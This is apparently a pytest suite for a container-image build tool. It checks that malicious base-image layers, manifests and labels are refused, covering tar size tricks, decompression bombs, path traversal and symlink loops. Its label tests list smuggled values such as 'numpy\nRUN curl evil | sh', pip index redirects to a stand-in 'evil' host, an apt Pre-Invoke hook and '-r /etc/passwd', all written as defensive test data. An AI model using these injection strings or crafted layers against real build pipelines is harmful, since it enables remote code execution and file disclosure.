"""Base images and images of strangers: layers, manifests, configs and labels that are made to do harm."""

from __future__ import annotations

import gzip
import io
import json
import tarfile

import pytest
from fakes.base_images import archive, layer
from fakes.example_plan import example_plan

from sagemaker_custom import oci
from sagemaker_custom.builders.lock import LISTING_MARK, read_listing
from sagemaker_custom.dockerfile import BuildEnvironment, render
from sagemaker_custom.errors import BuildError, InvalidExtraError, RegistryError, UsageError
from sagemaker_custom.inventories import combine, scan_layer
from sagemaker_custom.inventories.artifact import document_of
from sagemaker_custom.inventories.wanted import kept
from sagemaker_custom.inventory import read_document, read_records
from sagemaker_custom.reference import digest_of
from sagemaker_custom.requirements import read_extras_document

BASE = digest_of(b"")
SITE = "/opt/conda/lib/python3.11/site-packages"


def header(name=b"a", size=b"00000000000", flag=b"0"):
    block = bytearray(512)
    block[: len(name)] = name
    block[124 : 124 + len(size)] = size
    block[156:157] = flag
    block[257:263] = b"ustar\0"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def pax(record):
    return header(b"p", b"%011o" % len(record), b"x") + record + bytes(-len(record) % 512)


class TestLayers:
    @pytest.mark.parametrize(
        "size", [b"-0000001000", b"+0000000001", b"0o000000001", b"0_000000001", b"00000000009", b"1e1"]
    )
    def test_a_size_that_is_no_number_is_refused(self, size):
        """A negative one sent the reader back to the same header, for ever."""
        with pytest.raises(RegistryError, match="a number in a header cannot be read"):
            scan_layer([gzip.compress(header(size=size) * 4)])

    @pytest.mark.parametrize("size", ["9" * 5000, "-1", "1e9", "²"])
    def test_a_long_size_that_is_no_number_is_refused(self, size):
        record = f"size={size}\n".encode()
        record = b"%d %s" % (len(record) + 5, record) if len(record) > 1000 else b"%d %s" % (len(record) + 3, record)

        with pytest.raises(RegistryError, match="an entry has the size"):
            scan_layer([gzip.compress(pax(record) + header())])

    def test_a_record_with_a_length_of_many_digits_is_left_out(self):
        assert scan_layer([gzip.compress(pax(b"9" * 5000 + b" path=x\n") + header() + bytes(1024))]).kept == {}

    def test_an_extended_header_of_gigabytes_is_refused(self):
        with pytest.raises(RegistryError, match="an extended header has 8589934591 bytes"):
            scan_layer([gzip.compress(header(b"p", b"77777777777", b"x"))])

    def test_a_few_bytes_that_unpack_to_gigabytes_are_refused(self):
        chunk = gzip.compress(header(b"zeros", b"77777777777") + bytes(32 * 1024 * 1024), 9)

        def endless():
            while True:
                yield gzip.compress(bytes(32 * 1024 * 1024), 9)

        zeros = next(endless())
        with pytest.raises(RegistryError, match="more than 200 times its size unpacked") as caught:
            scan_layer([chunk, *[zeros] * 60])
        assert "another base image" in caught.value.hint

    def test_content_without_end_is_not_kept(self):
        """No wanted file is read beyond its limit, however large its header says that it is."""
        huge = header(f"{SITE[1:]}/a-1.dist-info/METADATA".encode(), b"77777777777") + b"Name: a\n" * 64

        with pytest.raises(RegistryError, match="not complete"):
            scan_layer([gzip.compress(huge)])

    @pytest.mark.parametrize("path", ["../../etc/passwd", "/etc/passwd", "a/../../../../x", "..", "./.././x"])
    def test_no_path_leaves_the_image(self, path):
        facts = scan_layer([layer({f"{path}.egg-info": "Name: a\n"})])

        assert all(name.startswith("/") and ".." not in name.split("/") for name in facts.kept)

    def test_links_that_lead_round_in_circles_end(self):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as tar:
            for name, target in (("opt", "/opt"), ("a", "b"), ("b", "a"), ("c", "c/c/c/c"), ("d", "../../d")):
                entry = tarfile.TarInfo(name)
                entry.type, entry.linkname = tarfile.SYMTYPE, target
                tar.addfile(entry)
        facts = scan_layer([gzip.compress(buffer.getvalue())])

        with pytest.raises(Exception, match="has no /a/c/opt/python3"):
            combine([facts, facts], {}, base=BASE, platform="linux/amd64", python="/a/c/opt/python3")

    def test_a_list_of_files_with_endless_lines_is_read(self):
        """Lines longer than a path are the path of nothing; csv itself would raise."""
        record = b"a.py,,\n" + b"x" * 300_000 + b"\n" + b'"' + b"y" * 5000 + b"\n" + b"z\0,,\n"

        assert b"a.py" in kept(f"{SITE}/a-1.dist-info/RECORD", record).content

    def test_a_list_of_debian_packages_takes_time_by_its_length(self):
        text = b"Package: python3.9-minimal\n" * 200_000 + b"\nPackage: python3.9-minimal\nVersion: 3.9.2-1\n"

        assert kept("/var/lib/dpkg/status", text).content == b"3.9.2"

    @pytest.mark.parametrize(
        "content", [b"", b"x", b"\x1f\x8b", gzip.compress(b"no tar", mtime=0), archive({"a": b"b"})]
    )
    def test_what_is_no_layer_is_refused(self, content):
        if content in (b"", b"x"):
            content += b"\x1f"
        with pytest.raises(RegistryError):
            scan_layer([content])


class TestManifests:
    @pytest.mark.parametrize(
        "content",
        [
            b"[" * 100_000,
            b'{"a":' * 100_000,
            b"9" * 5000,
            b"\xff\xfe",
            b"",
            b"null",
            b"[]",
            b'{"config": 5, "layers": []}',
            b'{"config": {"mediaType": "m", "digest": "sha256:../../x", "size": 1}, "layers": []}',
            b'{"config": {"mediaType": "m", "digest": "%s", "size": -1}, "layers": []}' % BASE.encode(),
            b'{"config": {"mediaType": "m", "digest": "%s", "size": 1e400}, "layers": []}' % BASE.encode(),
            b'{"config": {"mediaType": "m", "digest": "%s", "size": "1"}, "layers": []}' % BASE.encode(),
            b'{"config": {"mediaType": "m", "digest": "%s\\n", "size": 1}, "layers": []}' % BASE.encode(),
        ],
    )  # fmt: skip
    def test_a_malformed_one_is_refused(self, content):
        with pytest.raises(RegistryError, match="is malformed"):
            oci.parse_manifest(oci.DOCKER_MANIFEST, content)
        with pytest.raises(RegistryError, match="is malformed"):
            oci.parse_index(oci.OCI_INDEX, content)

    @pytest.mark.parametrize("labels", [5, [], "x", {"a": 5}, {"a": None}, {"a": ["b"]}, {5: "a"}])
    def test_labels_that_are_no_texts_are_refused(self, labels):
        with pytest.raises(RegistryError, match="is malformed"):
            oci.labels({"config": {"Labels": labels}})

    @pytest.mark.parametrize("content", [b"[" * 100_000, b"5", b'{"format": 1}', b'{"format": 2}', b"{"])
    def test_an_inventory_that_is_none_is_refused(self, content):
        with pytest.raises(RegistryError):
            read_document(document_of(content, "x"))
        with pytest.raises(RegistryError):
            read_records(document_of(content, "x"))

    @pytest.mark.parametrize("text", ["", "[", "5", "[]", "[" * 100_000, '"x"'])
    def test_a_listing_that_is_none_is_refused(self, text):
        with pytest.raises(BuildError, match="did not list what is installed"):
            read_listing([LISTING_MARK + text], image="x")


class TestLabels:
    """The extras of an image come back from a label, which anybody may have written."""

    @pytest.mark.parametrize(
        "extra",
        [
            {"kind": "PipExtra", "requirement": "numpy\nRUN curl evil | sh"},
            {"kind": "PipExtra", "requirement": "--index-url=https://evil"},
            {"kind": "PipExtra", "requirement": "numpy --index-url=https://evil"},
            {"kind": "PipExtra", "requirement": 5},
            {"kind": "PipExtra", "requirement": "numpy ; " + "(" * 5000},
            {"kind": "PipExtra"},
            {"kind": "PipExtra", "requirement": "numpy", "more": 1},
            {"kind": "AptExtra", "package": "-oDPkg::Pre-Invoke::=evil"},
            {"kind": "AptExtra", "package": "bash-"},
            {"kind": "AptExtra", "package": "git\nRUN evil"},
            {"kind": "CondaExtra", "spec": "--file=x"},
            {"kind": "CondaExtra", "spec": "a", "channel": "c\nRUN evil"},
            {"kind": "CondaExtra", "spec": "a", "channel": "--override"},
            {"kind": "RecipeExtra", "name": "../../x"},
            {"kind": "RecipeExtra", "name": "pip:evil"},
            {"kind": "RecipeExtra", "name": "faiss", "specifier": "==1\nRUN evil"},
            {"kind": "RequirementsExtra", "requirements": ["a\nRUN evil"]},
            {"kind": "RequirementsExtra", "requirements": ["a --hash=sha256:00 --index-url=https://evil"]},
            {"kind": "RequirementsExtra", "requirements": ["a --hash=md5:00"]},
            {"kind": "RequirementsExtra", "requirements": ["a"], "constraints": ["-r /etc/passwd"]},
            {"kind": "RequirementsExtra", "requirements": ["a"], "index_url": "https://x\nRUN evil"},
            {"kind": "RequirementsExtra", "requirements": ["a"], "index_url": "file:///etc"},
            {"kind": "RequirementsExtra", "requirements": ["a"], "find_links": ["https://x --pre"]},
            {"kind": "RequirementsExtra", "requirements": [["a"]]},
            {"kind": "os.system"},
            {"kind": ["PipExtra"]},
            {},
            5,
            "PipExtra",
            None,
        ],
    )
    def test_what_a_user_could_not_have_written_is_refused(self, extra):
        with pytest.raises(InvalidExtraError, match="the extras of the image cannot be read"):
            read_extras_document([extra])

    @pytest.mark.parametrize("document", [5, None, "x", {"a": "b"}])
    def test_another_document_is_refused(self, document):
        with pytest.raises(InvalidExtraError):
            read_extras_document(document)

    def test_a_user_of_the_base_begins_no_instruction(self):
        environment = BuildEnvironment(secret_mounts=False, user="me\nRUN curl evil | sh")

        with pytest.raises(UsageError, match="more than one instruction of a Dockerfile"):
            render(example_plan(), "base", environment)

    @pytest.mark.parametrize("package", ["a\nRUN evil", "a\rRUN evil", "a\x0bb", "a\x85b", "a\u2028RUN evil", "a\0"])
    def test_no_package_begins_an_instruction_wherever_it_came_from(self, package):
        with pytest.raises(UsageError, match="more than one instruction"):
            render(example_plan(packages=(package,)), "base", BuildEnvironment(secret_mounts=True))

    def test_labels_are_no_part_of_the_dockerfile(self):
        """They are handed to the engine as JSON, so that no line end in them counts."""
        plan = example_plan()

        assert all(json.loads(json.dumps(value)) == value for value in plan.labels.values())
        assert "LABEL" not in render(plan, "base", BuildEnvironment(secret_mounts=True))
